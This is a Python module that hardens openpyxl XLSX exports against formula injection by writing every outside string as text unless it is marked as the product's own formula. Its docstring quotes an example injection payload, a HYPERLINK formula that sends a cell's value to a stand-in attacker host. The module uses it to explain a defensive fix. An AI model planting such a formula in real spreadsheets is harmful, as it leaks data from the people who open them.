"""Streamed XLSX sheets in which outside text is always text.

openpyxl (3.1.5, pinned) guesses a cell's type from its value: a string of
two or more characters starting with ``=`` becomes a formula, and one of
Excel's error codes (``#N/A``, ``#REF!``...) an error. A donor who names
themselves ``=HYPERLINK("http://evil.example/?"&A1,"Thanks")`` would reach a
finance officer's Excel as a live formula. Here no string is ever guessed:
a value is a formula only when the product marks it as one (``Formula``);
every other string is written as an inline string, shown exactly as typed
(no apostrophe added: the cell's type says it is text). Strings starting with
``+``, ``-``, ``@``, a tab or a carriage return are already inline strings in
openpyxl, which Excel never evaluates.

The check is made where a value is bound to a cell (``TextCell``), and a
``TextSheet`` accepts only plain values and ``TextCell`` objects, so no
exporter can opt out by building its own cell. Every XLSX the product writes
uses these sheets (``reports.workbook``, ``grants.export``).

``TextSheet`` also keeps the reconciliation workbook's speed: its
``_values_to_row`` takes a cell object as it is instead of first trying it
as a plain value (docs/performance.md). It and ``TextCell._bind_value`` are
the private methods of openpyxl (pinned) overridden here; an upgrade that
renames them fails tests/test_formula_injection.py (docs/decisions.md)."""

from __future__ import annotations

import re

from openpyxl import Workbook
from openpyxl.cell.cell import Cell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

#: The types openpyxl guesses from a string's content.
_GUESSED = ("f", "e")
#: Characters XML 1.0 cannot hold: openpyxl refuses the control characters
#: (IllegalCharacterError) and lxml the rest (ValueError), either stopping
#: the whole export.
NOT_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
#: Shown in their place: U+FFFD, the replacement character.
REPLACEMENT = "\ufffd"
#: Excel's limit on a cell's text; openpyxl cuts there too.
MAX_TEXT = 32767


class Formula(str):
    """One of the product's own formulas: the only value written as one."""

    __slots__ = ()

    def __new__(cls, text: str) -> Formula:
        if not text.startswith("="):
            raise ValueError(f"a formula starts with '=': {text!r}")
        return super().__new__(cls, text)


class TextCell(Cell):
    """A cell that writes a string as text unless it is a ``Formula``.

    A character XML 1.0 cannot hold (a control character other than tab,
    line feed and carriage return; U+FFFE, U+FFFF) would stop the whole
    workbook; it is shown as U+FFFD instead, so one odd bank reference never
    stops an export."""

    __slots__ = ()

    def __init__(self, worksheet, value=None):
        super().__init__(worksheet, row=1, column=1, value=value)

    def check_string(self, value):
        # openpyxl's own, with characters replaced where it raises.
        if value is None:
            return None
        if not isinstance(value, str):
            value = str(value, self.encoding)
        value = str(value)[:MAX_TEXT]
        if NOT_XML.search(value) is not None:
            value = NOT_XML.sub(REPLACEMENT, value)
        return value

    def _bind_value(self, value):
        Cell._bind_value(self, value)
        if self.data_type in _GUESSED and type(value) is not Formula:
            self.data_type = "s"


class TextSheet(WriteOnlyWorksheet):
    """openpyxl's write-only sheet whose appended values become ``TextCell``
    objects. A cell object passed in must be a ``TextCell`` (openpyxl's own
    cells guess formulas); any other is refused with a ValueError.

    openpyxl's version first tries each value as a plain value, and a cell
    object fails that test only after its error message has been formatted
    (the cell's repr), then makes a fresh cell for the next column: a third
    of the reconciliation workbook's own cost at a million cells. Plain
    values are bound to one reused cell, as openpyxl does."""

    def _values_to_row(self, values, row_idx):
        plain = TextCell(self)
        for col_idx, value in enumerate(values, 1):
            if value is None:
                continue
            if isinstance(value, TextCell):
                cell = value
            else:
                plain.value = value  # another kind of cell: "Cannot convert"
                cell = plain
            cell.column = col_idx
            cell.row = row_idx
            yield cell


def add_text_sheet(book: Workbook, title: str) -> TextSheet:
    """A new ``TextSheet`` at the end of a write-only workbook (what
    ``Workbook.create_sheet`` does for its own write-only sheets)."""
    sheet = TextSheet(parent=book, title=title)
    book._add_sheet(sheet)
    return sheet
